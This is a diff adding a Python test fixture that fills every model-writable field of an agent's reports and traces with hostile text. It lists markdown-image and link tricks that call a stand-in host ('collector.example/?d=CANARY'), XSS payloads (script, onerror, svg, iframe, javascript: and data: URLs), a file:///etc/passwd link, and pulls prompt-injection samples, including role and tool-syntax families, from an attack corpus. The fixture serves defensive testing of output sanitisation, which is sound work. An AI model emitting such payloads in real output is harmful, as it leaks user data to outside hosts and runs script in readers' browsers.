@@ -1,0 +1,104 @@
+"""Reports that strangers have written into wherever they can."""
+
+from datetime import UTC, datetime, timedelta
+from typing import Final
+
+from chargehand.contracts import Artefact, Contradiction, Report, Source, Step, SubtaskRecord, Timing, Trace
+from tests.security.corpus import ATTACKS
+
+ELSEWHERE: Final = "http://collector.example/?d=CANARY"
+READ: Final = "https://read.example/page?a=1&b=2"
+_START: Final = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
+_TEXTS: Final = [
+    attack.text.replace("{url}", ELSEWHERE).replace("{collector}", "collector.example")
+    for attack in ATTACKS
+    if attack.family in {"markup", "end marks", "tool syntax", "addresses", "roles"}
+]
+_TRICKS: Final = [
+    f"![x]({ELSEWHERE} 'y')",
+    f"![x\n\n]({ELSEWHERE})",
+    f"[x\\]({ELSEWHERE})",
+    f"\\[x]({ELSEWHERE})",
+    f"\\![x]({ELSEWHERE})",
+    f"[a\nb]:\n{ELSEWHERE}\n\n![a b]",
+    f"> [r]: {ELSEWHERE}\n\n- ![r][]",
+    f"[![x]({ELSEWHERE})]({READ})",
+    f"[x]({READ}\n{ELSEWHERE})",
+    f"[{READ}]({ELSEWHERE})",
+    f"[x]({READ}@collector.example/?d=CANARY)",
+    f"[x](<{ELSEWHERE}>)",
+    f"[x](\n{ELSEWHERE}\n)",
+    f"<a href={ELSEWHERE}>[S1]</a>",
+    f"<!-- {ELSEWHERE} --><![CDATA[<img src={ELSEWHERE}>]]>",
+    f"<\nimg src={ELSEWHERE}>",
+    f"&#60;img src={ELSEWHERE}&#62;",
+    "[x](&#104;ttp://collector.example/)",
+    "[x](//collector.example/)",
+    "[x](mailto:a@collector.example?body=CANARY)",
+    "[x](vbscript:1) [y](JaVaScRiPt:1) [z](file:///etc/passwd)",
+    f"~~~\n<img src={ELSEWHERE}>\n~~~\n<img src={ELSEWHERE}>",
+    f"    ![x]({ELSEWHERE})\n![x]({ELSEWHERE})",
+    f"<style>@import '{ELSEWHERE}';</style>",
+    f"</style><link href={ELSEWHERE} rel=stylesheet>",
+    f"</title></head><img src={ELSEWHERE}>",
+    f"' style='background:url({ELSEWHERE})' x='",
+    "<script>console.log('ran')</script>",
+    "<img src=x onerror=console.log('ran')>",
+    "<svg><animate onbegin=console.log('ran') attributeName=x dur=1s>",
+    "<details open ontoggle=console.log('ran')>",
+    "<iframe srcdoc=\"<script>parent.console.log('ran')</script>\"></iframe>",
+    "[x](javascript:console.log('ran')) <javascript:console.log('ran')>",
+    "[x](data:text/html,<script>console.log('ran')</script>)",
+]
+HOSTILE: Final = (*_TEXTS, *_TRICKS)
+"""Texts that would load something, run something or lead somewhere."""
+
+
+def honest_report() -> Report:
+    """Make a report of nothing in particular."""
+    timing = Timing(
+        started_at=_START,
+        ended_at=_START + timedelta(seconds=9),
+        wall=timedelta(seconds=9),
+        subtasks_one_after_another=timedelta(seconds=9),
+        critical_path=timedelta(seconds=9),
+        speed_up=1,
+    )
+    return Report(session="s", goal="g", answer="a", stop_reason="completed", timing=timing)
+
+
+def hostile_report(text: str) -> Report:
+    """Put a text into every field of a report that a model, a page or a document can write."""
+    sources = (
+        Source(ref=READ, title=text, url=READ, quote=text),
+        Source(ref=text, title=text, url=text, quote=text),
+    )
+    record = SubtaskRecord(id="T1", agent=text, instruction=text, reason=text)
+    made = Artefact(uri=text, name=text, media_type=text, bytes=1, title=text)
+    return honest_report().model_copy(
+        update={
+            "goal": text,
+            "answer": f"See [here]({READ}).\n\n{text}\n\nThat is all [S1].",
+            "sources": sources,
+            "gaps": (text,),
+            "contradictions": (Contradiction(about=text, positions=(text,), resolution=text),),
+            "brain": text,
+            "subtasks": (record,),
+            "artefacts": (made,),
+            "session": text,
+        }
+    )
+
+
+def hostile_trace(text: str) -> Trace:
+    """Put a text into every word of a trace that a model can write."""
+    ended = _START + timedelta(seconds=9)
+    kinds = (("s", None, "session"), ("t", "s", "subtask"), ("c", "t", "turn"))
+    steps = tuple(
+        Step.model_validate(
+            {"id": id_, "parent": parent, "kind": kind, "name": text, "agent": text, "error": text, "worker": text}
+            | {"started_at": _START, "ended_at": ended, "state": "failed"}
+        )
+        for id_, parent, kind in kinds
+    )
+    return Trace(session=text, exported_at=ended, steps=steps)
